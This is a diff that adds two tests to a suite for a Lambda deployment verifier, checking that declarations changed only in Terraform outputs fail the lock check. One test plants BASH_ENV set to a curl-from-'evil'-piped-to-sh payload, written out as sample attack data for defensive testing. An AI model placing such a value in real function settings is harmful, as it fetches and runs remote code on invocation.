@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import json
 import time
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -22,6 +23,7 @@ from localaws.world import World, make_zip, unique
 from tests.verifier.deployed import Deployed, deploy, sign_source, write_source
 from verifier.checks.environment import CODE_LOADING_ENVIRONMENT
 from verifier.cli import app
+from verifier.contract.manifest import environment_digest
 from verifier.evidence.signature import TAIL_BYTES, hashes_from_tail
 
 runner = CliRunner()
@@ -349,6 +351,63 @@ def test_3c_an_own_earlier_build_with_the_declared_configuration_warns(
 
 
 # --- 5. false alarms: identical re-uploads ---------------------------------------------------
+
+
+def test_3d_a_declaration_changed_in_the_outputs_only_fails_lock_anchor(
+    world: World, tmp_path: Path
+) -> None:
+    """Terraform state is not a trust root, for declarations too: BASH_ENV set on ``$LATEST``
+    and a published version, and declared (with its digest) in the outputs only, fails
+    ``lock.anchor`` (the lock pins each function's declaration); so does
+    ``allow_earlier_versions`` flipped in the outputs only."""
+    deployed = deploy(world, tmp_path, environment={"LOG_LEVEL": "info"})
+    attack = {"LOG_LEVEL": "info", "BASH_ENV": "$(curl -s evil | sh)"}
+    lam = world.clients.lambda_
+    lam.update_function_configuration(
+        FunctionName=deployed.function_name, Environment={"Variables": attack}
+    )
+    lam.publish_version(FunctionName=deployed.function_name)
+    function = replace(
+        deployed.manifest.functions[0],
+        environment=tuple(sorted((n, environment_digest(v)) for n, v in attack.items())),
+    )
+    deployed.write_outputs(replace(deployed.manifest, functions=(function,)))
+    code, document, _ = verify(deployed)
+    assert code == 1
+    (anchor,) = findings(document, "lock.anchor")
+    assert anchor["status"] == "fail" and anchor["reason"] == "lock_mismatch"
+    assert "hello.environment: outputs declare BASH_ENV, the lock does not" in anchor["actual"]
+    assert "curl" not in json.dumps(document), "a value is never reported"
+
+    flipped = replace(deployed.manifest.functions[0], allow_earlier_versions=True)
+    deployed.write_outputs(replace(deployed.manifest, functions=(flipped,)))
+    code, document, _ = verify(deployed)
+    assert code == 1
+    (anchor,) = findings(document, "lock.anchor")
+    assert anchor["status"] == "fail"
+    assert "hello.allow_earlier_versions: outputs true, lock false" in anchor["actual"]
+
+
+def test_3e_a_lock_that_predates_pinned_declarations_warns_and_repair_refuses(
+    world: World, tmp_path: Path
+) -> None:
+    deployed = deploy(world, tmp_path)
+    deployed.write_lock(declarations=None)
+    code, document, _ = verify(deployed)
+    assert code == 0
+    (anchor,) = findings(document, "lock.anchor")
+    assert anchor["status"] == "warn" and anchor["reason"] == "declarations_unpinned"
+    assert "make lock" in anchor["actual"]
+    lam = world.clients.lambda_
+    lam.update_function_configuration(FunctionName=deployed.function_name, Handler="x.y")
+    result = runner.invoke(
+        app,
+        ["repair", "--outputs", str(deployed.outputs_file), "--lock", str(deployed.lock_file)],
+    )
+    assert result.exit_code == 1, result.output
+    assert "the lock does not pin the functions' declarations" in result.stderr
+    config = lam.get_function_configuration(FunctionName=deployed.function_name)
+    assert config["Handler"] == "x.y", "nothing was changed"
 
 
 def test_5_six_identical_reuploads_of_the_signed_key_only_warn(deployed: Deployed) -> None:
